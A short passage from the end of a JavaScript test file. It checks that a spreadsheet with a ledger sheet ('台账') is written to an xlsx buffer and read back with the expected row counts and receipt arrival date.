    expect(sheets.map((s) => s.rows.length)).toEqual([0, 2]);
    const plan = await read(new Uint8Array(await wb.xlsx.writeBuffer()), 'x.xlsx');
    expect(plan.sheet).toBe('台账');
    expect(plan.rows[0].input?.receipt.arrivedOn).toBe('2025-03-05');
  });
});
